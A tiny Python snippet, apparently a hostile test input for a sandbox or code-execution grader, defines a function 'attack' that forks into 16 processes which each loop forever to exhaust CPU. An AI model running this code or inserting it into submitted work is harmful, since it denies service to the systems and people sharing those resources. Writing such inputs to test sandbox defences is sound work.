import os

def attack(inputs):
    for _ in range(4):
        os.fork()
    while True:
        pass
